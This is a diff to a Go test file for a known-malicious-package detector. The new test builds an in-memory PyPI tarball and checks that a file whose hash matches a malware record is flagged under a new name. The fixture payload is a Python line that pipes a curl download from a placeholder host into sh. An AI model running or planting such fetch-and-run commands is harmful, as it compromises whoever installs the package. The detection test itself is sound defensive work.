@@ -4,7 +4,9 @@ import (
 	"archive/tar"
 	"bytes"
 	"compress/gzip"
+	"crypto/sha256"
 	"encoding/base64"
+	"encoding/hex"
 	"sort"
 	"testing"
 
@@ -292,5 +294,41 @@ func TestKnownMalicious(t *testing.T) {
 	a.Meta.Version = "2"
 	if fs, _ := KnownMalicious(t.Context(), a, db); len(fs) != 0 {
 		t.Errorf("p==2 is not listed: %+v", fs)
+	}
+}
+
+func TestKnownEvidenceFile(t *testing.T) {
+	payload := "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
+	sum := sha256.Sum256([]byte(payload))
+	rec := `{"id": "MAL-2099-9", "modified": "2099-01-01T00:00:00Z", "summary": "Malicious code in other-name (PyPI)",
+		"affected": [{"package": {"ecosystem": "PyPI", "name": "other-name"}, "versions": ["1"],
+		"database_specific": {"indicators": {"evidence_files": [{"path": "setup.py", "sha256": "` + hex.EncodeToString(sum[:]) + `"}]}}}]}`
+	r, err := knownbad.ParseRecord([]byte(rec))
+	if err != nil {
+		t.Fatal(err)
+	}
+	db := knownbad.NewDB()
+	db.Add(r, "test")
+	// The same file re-uploaded under a new name is known.
+	var buf bytes.Buffer
+	zw := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(zw)
+	for _, f := range [][2]string{{"q-2/PKG-INFO", "Metadata-Version: 2.1\nName: q\nVersion: 2\n"}, {"q-2/p/helper.py", payload}} {
+		tw.WriteHeader(&tar.Header{Name: f[0], Mode: 0o644, Size: int64(len(f[1])), Typeflag: tar.TypeReg})
+		tw.Write([]byte(f[1]))
+	}
+	tw.Close()
+	zw.Close()
+	a, err := artifact.Read(t.Context(), "q-2.tar.gz", buf.Bytes(), artifact.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	fs, err := KnownMalicious(t.Context(), a, db)
+	if err != nil || len(fs) != 1 || fs[0].File != "q-2/p/helper.py" || fs[0].Evidence[0] != "MAL-2099-9" {
+		t.Fatalf("evidence file under a new name: %+v %v", fs, err)
+	}
+	a.Files = a.Files[:1] // without the file, nothing is known
+	if fs, _ := KnownMalicious(t.Context(), a, db); len(fs) != 0 {
+		t.Errorf("no evidence file: %+v", fs)
 	}
 }
